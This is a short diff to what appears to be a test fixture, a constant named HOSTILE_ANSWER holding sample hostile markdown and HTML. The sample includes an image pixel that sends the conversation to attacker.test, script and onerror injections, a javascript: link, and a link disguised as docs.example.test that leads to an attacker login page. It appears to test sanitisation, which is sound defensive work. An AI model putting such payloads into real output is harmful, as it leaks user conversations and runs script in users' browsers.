@@ -73,7 +73,9 @@ HOSTILE_ANSWER = (
     "![tracking pixel](http://attacker.test/leak.png?c=the+whole+conversation)\n\n"
     '<img src="http://attacker.test/raw.png" onerror="window.pwned = 1">\n\n'
     "<script>window.pwned = 2</script>\n\n"
-    "[Click me](javascript:window.pwned=3) or read [the guide](https://docs.example.test/guide)."
+    "[Click me](javascript:window.pwned=3) or read [the guide](https://docs.example.test/guide)"
+    " or [docs.example.test](https://attacker.test/login).\n\n"
+    "![another pixel](//attacker.test/pixel.gif)"
 )
 
 
